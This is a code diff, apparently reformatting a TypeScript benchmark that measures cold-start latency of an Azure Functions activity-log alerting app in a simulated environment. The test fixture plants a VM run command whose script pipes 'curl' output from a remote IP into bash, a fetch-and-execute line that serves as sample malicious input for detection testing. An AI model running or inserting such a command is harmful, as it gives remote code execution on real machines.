@@ -45,7 +45,11 @@ const bundleBare = async (folder: string, modules: readonly string[]): Promise<s
 
 /** Calls to the services so far, by operation. */
 const callsOf = ({ faults }: AzureWorld): Readonly<Record<string, number>> =>
-  Object.fromEntries([faults.tables, faults.blobs, faults.sns].flatMap((plan) => Object.entries(plan.counts()).map(([operation, { calls }]) => [operation, calls])))
+  Object.fromEntries(
+    [faults.tables, faults.blobs, faults.sns].flatMap((plan) =>
+      Object.entries(plan.counts()).map(([operation, { calls }]) => [operation, calls]),
+    ),
+  )
 
 /** What one side called more than before; both sides must call the same, or the comparison says nothing. */
 const callsSince = (world: AzureWorld, before: Readonly<Record<string, number>>): string =>
@@ -57,8 +61,16 @@ const callsSince = (world: AzureWorld, before: Readonly<Record<string, number>>)
 /** Milliseconds from the start of an instance's process to the end of its first invocation. */
 const firstAlert = async (world: AzureWorld, entry: string, name: string, number: number): Promise<number> => {
   const resourceId = `${vmId(`vm-${number}`)}/runCommands/update`
-  world.arm.resources.set(resourceId.toLowerCase(), { properties: { source: { script: 'curl -s http://203.0.113.9/setup.sh | bash' } } })
-  const record = activityLogRecord({ operation: 'Microsoft.Compute/virtualMachines/runCommands/write', resourceId, person: number, user: `user${number}@example.com`, correlationId: uuid(number) })
+  world.arm.resources.set(resourceId.toLowerCase(), {
+    properties: { source: { script: 'curl -s http://203.0.113.9/setup.sh | bash' } },
+  })
+  const record = activityLogRecord({
+    operation: 'Microsoft.Compute/virtualMachines/runCommands/write',
+    resourceId,
+    person: number,
+    user: `user${number}@example.com`,
+    correlationId: uuid(number),
+  })
   const begun = performance.now()
   const host = await startFunctionsHost({ entry, env: { ...world.settings, BARE_RESOURCE: resourceId } })
   const result = await host.invokeEventHub(name, [message(record)], { maxRetryCount: 5 })
@@ -88,7 +100,8 @@ export const measureColdStart = async (turns: number): Promise<ColdStartFigures>
       const [bareCalls, between] = [callsSince(world, atStart), callsOf(world)]
       const appMs = await firstAlert(world, entries.app, 'activityLog', 20_000 + turn)
       const appCalls = callsSince(world, between)
-      if (turn > 0 && appCalls !== bareCalls) throw new Error(`the sides do not make the same calls: the app ${appCalls}; the bare function ${bareCalls}`)
+      if (turn > 0 && appCalls !== bareCalls)
+        throw new Error(`the sides do not make the same calls: the app ${appCalls}; the bare function ${bareCalls}`)
       const clientsMs = await firstAlert(world, entries.clients, 'bare', 30_000 + turn)
       // The first turn fills the caches of the machine.
       if (turn === 0) continue
@@ -97,7 +110,13 @@ export const measureColdStart = async (turns: number): Promise<ColdStartFigures>
       clients.push(clientsMs)
     }
     const over = (others: readonly number[]): number => median(app.map((ms, turn) => ms / (others[turn] ?? Number.NaN)))
-    return { appMs: median(app), bareMs: median(bare), ratio: over(bare), clientsMs: median(clients), ratioToClients: over(clients) }
+    return {
+      appMs: median(app),
+      bareMs: median(bare),
+      ratio: over(bare),
+      clientsMs: median(clients),
+      ratioToClients: over(clients),
+    }
   } finally {
     await world.stop()
     for (const folder of folders) rmSync(folder, { recursive: true })
